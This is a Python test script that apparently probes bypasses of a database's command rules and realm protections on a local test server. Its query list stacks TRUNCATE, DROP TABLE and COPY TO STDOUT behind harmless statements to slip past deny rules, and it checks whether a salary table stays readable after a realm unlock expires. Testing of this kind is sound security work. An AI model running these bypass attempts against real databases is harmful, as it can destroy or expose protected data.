# exploratory script (attempts that held); run with /usr/bin/python3, prints observations
import sys, time, signal, os; sys.path.insert(0,'/work/attack2/findings')
from dbv import *
from pq import PQ
s=Server(); s.start(); print(s.tmp, s.port)
d=s.connect('dba'); sa=s.connect('secadmin')
print(run(d,"CREATE TABLE t (id INTEGER PRIMARY KEY, v TEXT)"), run(d,"INSERT INTO t VALUES (1,'a'),(2,'b')"))
print(run(sa,"CREATE COMMAND RULE nt FOR TRUNCATE, DROP ON TABLE t DENY WHEN TRUE MESSAGE 'no truncate'"))
print(run(sa,"CREATE COMMAND RULE ne FOR EXPORT ON TABLE t DENY WHEN TRUE MESSAGE 'no export'"))
p=PQ(s.port,'dba',PW['dba'])
for q in ["SELECT 1; TRUNCATE t", "TRUNCATE t; SELECT 1", "SELECT 1; DELETE FROM t", "BEGIN; DELETE FROM t; COMMIT", "ROLLBACK", "SELECT 1; DROP TABLE t",
          "SELECT 1; COPY t TO STDOUT", "SELECT 1; COPY (SELECT * FROM t) TO STDOUT", "SELECT count(*) FROM t"]:
    r=p.exec(q); print(repr(q),'=>',r,p.tx())
print(run(sa,"CREATE REALM hr DESCRIPTION 'h' REQUIRE VAULT PASSWORD 'hrpw-1' TABLESPACE hr_ts"))
print(run(d,"CREATE TABLE sal (id INTEGER PRIMARY KEY, amount INTEGER) TABLESPACE hr_ts"))
print(run(d,"UNLOCK REALM hr PASSWORD 'hrpw-1'"), run(d,"INSERT INTO sal VALUES (1,1)"))
print(run(d,"BEGIN; SELECT * FROM sal"))
s.advance(7300)
print('after expiry in block', run(d,"SELECT * FROM sal"), run(d, "ROLLBACK"))
print('after expiry', run(d,"SELECT 1; SELECT * FROM sal"))
